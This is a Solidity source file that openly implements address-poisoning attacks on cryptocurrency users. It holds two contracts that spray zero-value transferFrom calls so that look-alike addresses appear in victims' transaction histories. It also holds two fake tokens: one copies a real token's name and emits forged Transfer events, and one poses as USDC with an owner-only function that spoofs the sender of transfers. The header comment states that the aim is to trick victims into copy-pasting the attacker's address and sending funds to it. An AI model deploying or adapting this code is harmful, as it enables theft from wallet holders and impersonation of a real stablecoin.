// SPDX-License-Identifier: MIT
// Address poisoning: make a look-alike address appear in the victim's history so that a
// later copy-paste sends funds to it. Two poisoners (zero-value transferFrom on the real
// token) and two fake tokens that emit Transfer events with a forged sender.
pragma solidity ^0.8.20;

interface ITransferFrom {
    function transferFrom(address, address, uint256) external returns (bool);
}

/// Poisoner A: loops over victims with typed zero-value transferFrom calls.
contract ZeroTransferPoisoner {
    address immutable owner = msg.sender;

    function poison(address token, address[] calldata victims, address[] calldata lookalikes) external {
        require(msg.sender == owner, "no");
        for (uint256 i = 0; i < victims.length; i++) {
            ITransferFrom(token).transferFrom(victims[i], lookalikes[i], 0);
        }
    }
}

/// Poisoner B: one packed calldata blob, raw calls, failures ignored (spray and pray).
contract BatchPoisoner {
    address private admin;

    constructor() {
        admin = msg.sender;
    }

    fallback() external {
        require(msg.sender == admin);
        address token = address(bytes20(msg.data[0:20]));
        for (uint256 off = 20; off + 40 <= msg.data.length; off += 40) {
            address victim = address(bytes20(msg.data[off:off + 20]));
            address lookalike = address(bytes20(msg.data[off + 20:off + 40]));
            token.call(abi.encodeWithSelector(0x23b872dd, victim, lookalike, 0));
        }
    }
}

/// Fake token A: mirrors a real token's name and symbol; emits forged Transfer events.
contract MirrorToken {
    string public name;
    string public symbol;
    uint8 public decimals;
    address private immutable deployer;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 decimals_) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
        deployer = msg.sender;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function totalSupply() external pure returns (uint256) {
        return 0;
    }

    function emitTransfers(address[] calldata froms, address[] calldata tos, uint256[] calldata values)
        external
    {
        require(msg.sender == deployer);
        for (uint256 i = 0; i < froms.length; i++) {
            emit Transfer(froms[i], tos[i], values[i]);
        }
    }
}

/// Fake token B: keeps real balances but lets its owner "airdrop" from any address.
contract LookalikeStable {
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;
    address public owner;
    string public constant name = "USD Coin";
    string public constant symbol = "USDC";
    uint8 public constant decimals = 6;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        owner = msg.sender;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function airdropFrom(address spoofedFrom, address to, uint256 value) external {
        require(msg.sender == owner, "owner");
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(spoofedFrom, to, value);
    }
}
